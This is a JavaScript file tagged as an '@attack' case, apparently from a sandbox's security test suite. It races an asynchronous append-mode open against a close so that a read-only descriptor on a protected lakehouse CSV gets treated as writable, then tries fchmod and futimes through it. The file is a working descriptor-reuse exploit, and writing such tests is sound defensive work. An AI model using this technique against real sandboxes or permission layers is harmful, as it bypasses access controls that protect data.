/* @attack {"title": "a callback open for append races a close of its number: the number is closed and reopened read-only on the lakehouse before the open's callback, which then marks it writable; fchmod and futimes through it"} */
import fs from 'node:fs';

const run = process.env.SLEEVE_RUN_DIR;
const lake = 'data/lakehouse/AAPL.csv';
fs.writeFileSync(`${run}/mine.txt`, 'mine\n');
for (let i = 0; i < 50; i++) {
  // The number the next open will get: the lowest free one.
  const next = fs.openSync(`${run}/mine.txt`, 'r');
  fs.closeSync(next);
  const opened = new Promise((resolve) => fs.open(`${run}/mine.txt`, 'a', (error, fd) => resolve(error ? -1 : fd)));
  let open = false;
  for (let spin = 0; spin < 1_000_000 && !open; spin++) {
    try {
      fs.fstatSync(next);
      open = true;
    } catch {}
  }
  if (!open) {
    await opened;
    continue;
  }
  fs.closeSync(next); // closes the append descriptor the callback has not delivered yet
  const ro = fs.openSync(lake, 'r');
  const fd = await opened;
  if (fd !== ro) {
    fs.closeSync(ro);
    continue;
  }
  let done = 0;
  for (const [label, call] of [
    ['fchmodSync', () => fs.fchmodSync(ro, 0o777)],
    ['futimesSync', () => fs.futimesSync(ro, 0, 0)],
  ]) {
    try {
      call();
      done++;
      console.log(`attempt ${i}: ${label} through the reused number: done`);
    } catch (error) {
      console.log(`attempt ${i}: ${label}: ${error.code}`);
    }
  }
  fs.closeSync(ro);
  if (done > 0) break;
}
